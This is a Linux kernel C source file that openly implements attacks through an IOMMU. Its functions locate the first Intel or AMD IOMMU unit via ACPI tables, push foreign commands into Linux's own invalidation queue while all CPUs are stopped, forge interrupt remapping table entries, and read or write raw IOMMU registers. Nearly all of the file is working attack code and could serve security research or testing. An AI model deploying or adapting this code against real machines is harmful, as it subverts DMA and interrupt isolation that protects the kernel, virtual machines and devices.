// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of an IOMMU, whose tables and queue are Linux's: those of Intel's kind. Of AMD's
 * there are the registers alone.
 */
#include <linux/acpi.h>
#include <linux/bitfield.h>
#include <linux/io.h>
#include <linux/iopoll.h>
#include <linux/sizes.h>
#include <linux/slab.h>
#include <linux/stop_machine.h>

#include "iommu.h"

#define QUEUE_WIDE	BIT(11)
#define QUEUE_SIZE	GENMASK(2, 0)
#define TABLE		0xb8
#define TABLE_SIZE	GENMASK(3, 0)
#define ADDRESS		GENMASK_ULL(51, 12)

/* Descriptors: all entries for interrupts, a wait that stores 1. */
#define INTERRUPTS	4
#define WAIT		(5 | BIT(5) | BIT_ULL(32))

/* Of AMD's kind. Commands: a wait that stores 1, and one that interrupts. */
#define AMD_SIZE	GENMASK_ULL(59, 56)
#define AMD_WAIT	(BIT_ULL(60) | BIT(0))
#define AMD_INTERRUPT	(BIT_ULL(60) | BIT(1))
#define AMD_REGISTERS	SZ_16K

/* Registers of the queue. */
struct queue {
	unsigned int head, tail, address;
};

static const struct queue intel = { 0x80, 0x88, 0x90 }, amd = { 0x2000, 0x2008, 0x8 };

struct unit {
	void __iomem *registers;
	const struct queue *queue;
	const u64 *commands;
	unsigned int count;
	u64 stored;
	int error;
};

/**
 * attack_map_unit() - map the registers of the first unit that the firmware lists
 *
 * Context: Process.
 * Return: the registers, for iounmap(), or NULL.
 */
void __iomem *attack_map_unit(void)
{
	const struct acpi_dmar_hardware_unit *unit;
	const struct acpi_ivrs_hardware_10 *block;
	struct acpi_table_header *table;
	void __iomem *registers = NULL;

	if (ACPI_SUCCESS(acpi_get_table(ACPI_SIG_DMAR, 0, &table))) {
		unit = (void *)table + sizeof(struct acpi_table_dmar);
		if (unit->header.type == ACPI_DMAR_TYPE_HARDWARE_UNIT)
			registers = ioremap(unit->address, PAGE_SIZE);
	} else if (ACPI_SUCCESS(acpi_get_table(ACPI_SIG_IVRS, 0, &table))) {
		block = (void *)table + sizeof(struct acpi_table_ivrs);
		registers = ioremap(block->base_address, AMD_REGISTERS);
	} else {
		return NULL;
	}
	acpi_put_table(table);
	return registers;
}

/**
 * attack_is_amd() - tell of which kind the unit is
 *
 * Context: Process.
 * Return: whether it is of AMD's.
 */
bool attack_is_amd(void)
{
	struct acpi_table_header *table;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_IVRS, 0, &table)))
		return false;
	acpi_put_table(table);
	return true;
}

static int move_tail(struct unit *unit, u64 tail)
{
	u64 head;

	writel(tail, unit->registers + unit->queue->tail);
	return readq_poll_timeout_atomic(unit->registers + unit->queue->head, head, head == tail,
					 1, 5000000);
}

/*
 * Has the unit carry commands out. The queue goes round once, so that Linux finds its tail where
 * it was. No CPU of Linux uses it meanwhile.
 */
static int go_round(void *data)
{
	struct unit *unit = data;
	bool is_amd = unit->queue == &amd;
	u64 address = readq(unit->registers + unit->queue->address);
	u64 tail = readl(unit->registers + unit->queue->tail);
	u64 step = !is_amd && address & QUEUE_WIDE ? 32 : 16;
	u64 size = PAGE_SIZE << (address & QUEUE_SIZE), offset;
	void *queue = __va(address & ADDRESS);

	if (is_amd)
		size = step << FIELD_GET(AMD_SIZE, address);
	for (offset = 0; offset < size; offset += step) {
		u64 *descriptor = queue + (tail + offset) % size;

		memset(descriptor, 0, step);
		if (offset / step < unit->count) {
			descriptor[0] = unit->commands[offset / step];
			continue;
		}
		descriptor[0] = is_amd ? AMD_WAIT | __pa(&unit->stored) : WAIT;
		descriptor[1] = is_amd ? 1 : __pa(&unit->stored);
	}
	unit->error = move_tail(unit, (tail + size - step) % size) ?: move_tail(unit, tail);
	return 0;
}

/**
 * attack_command() - have the unit carry out commands that are not Linux's
 * @commands: the first halves of their descriptors; the second ones are 0
 * @count: how many, less than fit into its queue
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_command(const u64 *commands, unsigned int count)
{
	struct unit *unit;
	int error = -ENODEV;

	/* The unit stores there. */
	unit = kzalloc(sizeof(*unit), GFP_KERNEL);
	if (!unit)
		return -ENOMEM;
	unit->commands = commands;
	unit->count = count;
	unit->queue = attack_is_amd() ? &amd : &intel;
	unit->registers = attack_map_unit();
	if (unit->registers) {
		error = stop_machine(go_round, unit, NULL) ?: unit->error;
		iounmap(unit->registers);
	}
	kfree(unit);
	return error;
}

/**
 * attack_remapping() - forge an entry for interrupts, and tell the unit
 * @index: which one
 * @low: its low half
 * @high: its high half
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_remapping(unsigned int index, u64 low, u64 high)
{
	void __iomem *registers = attack_map_unit();
	const u64 command = INTERRUPTS;
	u64 table, *entry;

	if (!registers || attack_is_amd())
		return -ENODEV;
	table = readq(registers + TABLE);
	iounmap(registers);
	if (index >= 2u << (table & TABLE_SIZE))
		return -EINVAL;
	entry = __va(table & ADDRESS) + 16ul * index;
	WRITE_ONCE(entry[1], high);
	WRITE_ONCE(entry[0], low);
	return attack_command(&command, 1);
}

/**
 * attack_completion() - have a unit of AMD's kind interrupt when commands are done
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_completion(void)
{
	const u64 command = AMD_INTERRUPT;

	return attack_is_amd() ? attack_command(&command, 1) : -ENODEV;
}

/**
 * attack_unit() - access 32 bits of the unit's registers
 * @offset: which
 * @value: what to write, or NULL
 * @result: what is read
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_unit(unsigned int offset, const u64 *value, u32 *result)
{
	void __iomem *registers = attack_map_unit();

	if (!registers)
		return -ENODEV;
	if (value)
		writel(*value, registers + (offset & 0xffc));
	*result = readl(registers + (offset & 0xffc));
	iounmap(registers);
	return 0;
}
